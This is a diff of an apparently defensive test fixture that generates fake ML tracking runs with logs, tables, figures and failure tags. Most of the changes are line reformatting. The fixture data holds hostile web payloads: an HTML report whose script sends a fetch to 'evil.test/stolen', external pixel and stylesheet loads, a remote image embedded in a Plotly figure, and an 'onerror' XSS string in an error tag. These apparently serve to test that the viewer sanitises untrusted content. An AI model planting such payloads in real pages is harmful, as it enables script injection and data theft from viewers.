@@ -32,7 +32,8 @@ TRACEBACK = """Traceback (most recent call last):
     raise FloatingPointError(f"loss is {loss} after {step} steps")
 FloatingPointError: loss is nan after 312 steps
 """
-REPORT = """<!doctype html><title>report</title><style>body{font-family:sans-serif;margin:12px}td{padding:2px 8px}</style>
+REPORT = """<!doctype html><title>report</title>
+<style>body{font-family:sans-serif;margin:12px}td{padding:2px 8px}</style>
 <h2>Run %s</h2><table><tr><td>accuracy</td><td>%.3f</td></tr></table><img src="https://evil.test/pixel.png">
 <link rel=stylesheet href="https://evil.test/style.css">
 <script>document.body.append("scripts ran"); fetch("https://evil.test/stolen").catch(() => 0);
@@ -101,7 +102,9 @@ def _files(i: int, noise: random.Random, rate: float, hidden: int, accuracy: flo
     nbtrack.log_text("".join(f"epoch {n:3} loss {1 / (n + 1):.4f}\n" for n in range(12 + i)), "output.txt")
     nbtrack.log_dict({"classes": list(range(10)), "best": {"epoch": 20 + i % 5, "accuracy": accuracy}}, "summary.json")
     names = ("zero", "one", "seven", "nine")
-    nbtrack.log_table({"class": names, "precision": [round(0.9 + 0.02 * noise.random(), 3) for _ in names]}, "table.json")
+    nbtrack.log_table(
+        {"class": names, "precision": [round(0.9 + 0.02 * noise.random(), 3) for _ in names]}, "table.json"
+    )
     rows = "".join(f"{n},{'abc'[n % 3]},{0.1 * n * (1 + (i > 0 and n % 4 == 0)):.2f}\n" for n in range(30))
     nbtrack.log_text("id,label,score\n" + rows, "predictions.csv")
     nbtrack.log_text(REPORT % (i, accuracy), "report.html")
@@ -110,10 +113,12 @@ def _files(i: int, noise: random.Random, rate: float, hidden: int, accuracy: flo
     pixels = np.add.outer(np.arange(side * 24), np.arange(side * 24)).astype(np.uint8) // 2 + pixels // 8
     nbtrack.log_image(Image.fromarray(pixels), "plots/weights.png")
     z = [[noise.random() for _ in range(6)] for _ in range(6)]
+    roc = {"x": [0, 0.1, 0.4, 1], "y": [0, 0.5 + noise.random() / 3, 0.9, 1 + i / 20]}
+    image = {"source": "https://evil.test/in-figure.png", "x": 0, "y": 1, "sizex": 0.1, "sizey": 0.1}
     figure = {
-        "data": [{"type": "scattergl", "mode": "lines", "name": "<b>roc</b>", "x": [0, 0.1, 0.4, 1], "y": [0, 0.5 + noise.random() / 3, 0.9, 1 + i / 20]}],
-        "layout": {"title": {"text": "ROC"}, "width": 900, "images": [{"source": "https://evil.test/in-figure.png", "x": 0, "y": 1, "sizex": 1, "sizey": 1}]},
-    }  # fmt: skip
+        "data": [{"type": "scattergl", "mode": "lines", "name": "<b>roc</b>", **roc}],
+        "layout": {"title": {"text": "ROC"}, "width": 900, "images": [image]},
+    }
     nbtrack.log_text(json.dumps(figure), "plots/roc.plotly.json")
     heat = {"data": [{"type": "heatmap", "z": z}], "layout": {"title": {"text": "Confusion"}}}
     nbtrack.log_text(json.dumps(heat), "plots/confusion.json")
@@ -128,7 +133,9 @@ def _fate(run: str, i: int) -> None:
     """Every seventh failed, and one was left open by a process that is gone."""
     client = nbtrack.MlflowClient()
     if i % 7 == 3:
-        client.set_tag(run, "nbtrack.error", "FloatingPointError: loss is nan after 312 steps <img src=x onerror=alert(1)>")
+        client.set_tag(
+            run, "nbtrack.error", "FloatingPointError: loss is nan after 312 steps <img src=x onerror=alert(1)>"
+        )
         client.log_text(run, TRACEBACK, "traceback.txt")
         client.set_terminated(run, "FAILED")
     if i == 1:
